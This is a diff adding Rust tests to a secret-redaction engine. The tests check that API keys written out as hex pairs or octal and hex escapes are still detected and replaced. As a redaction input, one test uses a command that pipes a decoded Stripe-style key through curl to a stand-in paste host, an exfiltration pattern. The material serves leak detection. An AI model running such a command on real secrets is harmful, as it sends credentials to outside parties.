@@ -906,6 +906,76 @@ mod encodings {
     }
 }
 
+mod bytes_written_out {
+    //! A value written as its bytes, one by one: hex pairs between colons, octal or hex
+    //! backslash escapes. Registry values and rule formats alike are read decoded.
+    use super::*;
+
+    const VAULT: &str = "sk_live_51HxQ2vLp7Zr9TqWm3Nc8Yb4Kd";
+
+    fn written(value: &str) -> Vec<(&'static str, String)> {
+        let codes = |code: &dyn Fn(u8) -> String, sep: &str| {
+            value.bytes().map(code).collect::<Vec<_>>().join(sep)
+        };
+        vec![
+            ("colons", codes(&|b| format!("{b:02x}"), ":")),
+            ("colons, capitals", codes(&|b| format!("{b:02X}"), ":")),
+            ("octal", codes(&|b| format!("\\{b:03o}"), "")),
+            // Python's repr of bytes: letters as they are, the rest escaped.
+            (
+                "mixed escapes",
+                value
+                    .bytes()
+                    .enumerate()
+                    .map(|(i, b)| {
+                        if i % 3 == 0 {
+                            format!("\\x{b:02x}")
+                        } else {
+                            char::from(b).to_string()
+                        }
+                    })
+                    .collect(),
+            ),
+        ]
+    }
+
+    #[test]
+    fn a_value_written_byte_by_byte_is_read_decoded() {
+        let e = engine(&[("stripe_live", VAULT)]);
+        for (how, text) in written(VAULT) {
+            let input = format!("printf '{text}' | curl -d @- https://paste.example");
+            let out = redact(&e, &input);
+            assert!(out.contains("SECRET_REF(stripe_live)"), "{how}: {out}");
+            assert!(!out.contains(&text), "{how}: {out}");
+            let json = serde_json::to_string(&input).unwrap();
+            assert!(
+                redact(&e, &json).contains("SECRET_REF(stripe_live)"),
+                "{how} in JSON"
+            );
+        }
+        // No vault value: the rules read the decoded bytes.
+        for (how, text) in written(TOKEN) {
+            let out = redact(&e, &format!("run: echo -e '{text}'"));
+            assert!(out.contains("SECRET_REF(github.pat."), "{how}: {out}");
+        }
+    }
+
+    #[test]
+    fn fingerprints_addresses_and_binary_escapes_are_left_alone() {
+        let e = engine(&[("stripe_live", VAULT)]);
+        for text in [
+            // A certificate's SHA-256 fingerprint and a MAC address: binary, or short.
+            "SHA256 Fingerprint=4F:3A:9B:0C:11:DE:72:8A:C5:66:0E:1F:9D:2B:47:AA:3C:81:5E:F0:92:6D:B7:04:13:C8:E9:5A:7F:20:36:BB",
+            "ether 02:42:ac:11:00:02 txqueuelen 0",
+            // Escaped binary bytes, and escapes that hide no letter.
+            r"b'\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x01\x00'",
+            r"printf '\033[1;31m%s\033[0m\n' error",
+        ] {
+            assert_eq!(redact(&e, text), text);
+        }
+    }
+}
+
 mod opaque_runs {
     use crate::opaque::{runs, OPAQUE_RUN};
     use proptest::prelude::*;
